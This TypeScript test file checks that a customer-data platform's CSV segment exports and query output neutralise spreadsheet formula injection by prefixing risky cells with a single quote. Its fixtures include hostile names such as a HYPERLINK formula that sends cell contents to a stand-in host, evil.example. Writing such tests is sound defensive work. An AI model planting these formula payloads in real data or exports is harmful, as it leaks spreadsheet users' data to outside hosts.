import { parse } from 'csv-parse/sync';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { queryWarehouse } from '../../app/query';
import { exportSegment } from '../../app/segment-members';
import { renderResult } from '../../cli/render/query';
import type { LoadedConfig } from '../../lib/config';
import { PROJECT_ROOT } from '../../lib/paths';
import { materializeSegments } from '../../lib/segments/materialize';
import { buildWarehouse } from '../../lib/warehouse/build-warehouse';
import { landKnownPeople, SHOP_CONNECTION } from '../support/known-customers';
import { makeWorkspace } from '../support/workspace';

// Customers who typed formulas as their names: a spreadsheet opening an export must show each as
// text. They are landed as Stripe customers, built and materialized, then exported the way
// `cdp segment export` and the web export do, and read back with an independent CSV parser.

const HOSTILE_FIRST_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '@SUM(A1)', '-2+3', '\t=1+1', '\r=1+1'];
const HOSTILE_EMAIL = '+1+1@evil.example';

let ws: ReturnType<typeof makeWorkspace>;
let config: LoadedConfig;

beforeAll(async () => {
  ws = makeWorkspace([SHOP_CONNECTION]);
  config = ws.config();
  await landKnownPeople(
    config,
    HOSTILE_FIRST_NAMES.map((first, i) => ({ first, last: 'Doe', email: i === 0 ? HOSTILE_EMAIL : `person${i}@example.com` })),
  );
  fs.mkdirSync(config.segmentsDir, { recursive: true });
  fs.writeFileSync(path.join(config.segmentsDir, 'everyone.yaml'), stringify({ environment: 'live', rules: { field: 'last_name', op: 'equals', value: 'Doe' } }));
  await buildWarehouse(config, { modelsDir: path.join(PROJECT_ROOT, 'models') });
  const materialized = await materializeSegments(config);
  expect(materialized.failed).toEqual([]);
}, 120_000);

afterAll(() => ws?.cleanup());

const readBack = (csv: string) => parse(csv, { columns: true, relax_column_count: false }) as Record<string, string>[];

/** Asserts a cell holds the hostile text after a single quote, and nothing else changed. */
function expectNeutralised(cell: string | undefined, original: string): void {
  expect(cell, JSON.stringify(original)).toBe(`'${original}`);
}

describe('segment exports neutralise formulas', () => {
  it('basic and extended: every hostile first name comes back as text after a single quote', async () => {
    for (const format of ['basic', 'extended'] as const) {
      const { csv, members } = await exportSegment(config, 'everyone', format);
      expect(members).toBe(HOSTILE_FIRST_NAMES.length);
      const firstNames = readBack(csv).map((r) => r.first_name);
      expect(firstNames.sort()).toEqual(HOSTILE_FIRST_NAMES.map((n) => `'${n}`).sort());
      for (const name of HOSTILE_FIRST_NAMES) expectNeutralised(firstNames.find((f) => f?.slice(1) === name), name);
    }
  });

  it('email: the names, and an email that starts with +, come back after a single quote', async () => {
    const rows = readBack((await exportSegment(config, 'everyone', 'email')).csv);
    for (const first of HOSTILE_FIRST_NAMES) expectNeutralised(rows.find((r) => r.name === `'${first} Doe`)?.name, `${first} Doe`);
    expectNeutralised(rows.find((r) => r.email?.includes('evil'))?.email, HOSTILE_EMAIL);
  });

  it('facebook: no cell starts with a character a spreadsheet reads as a formula', async () => {
    const rows = readBack((await exportSegment(config, 'everyone', 'facebook')).csv);
    expect(rows).toHaveLength(HOSTILE_FIRST_NAMES.length);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expectNeutralised(rows.find((r) => r.email?.includes('evil'))?.email, HOSTILE_EMAIL);
  });
});

describe('cdp query --format csv', () => {
  it('neutralises hostile text and keeps a negative amount a number', async () => {
    const result = await queryWarehouse(config.layout.warehouse, `select first_name, -12.50 as amount from core.customers order by customer_id`);
    const rows = readBack(renderResult(result, 'csv'));
    expect(rows.map((r) => r.first_name).sort()).toEqual(HOSTILE_FIRST_NAMES.map((n) => `'${n}`).sort());
    for (const row of rows) {
      expect(row.amount).toBe('-12.50');
      expect(Number(row.amount)).toBe(-12.5);
    }
  });
});
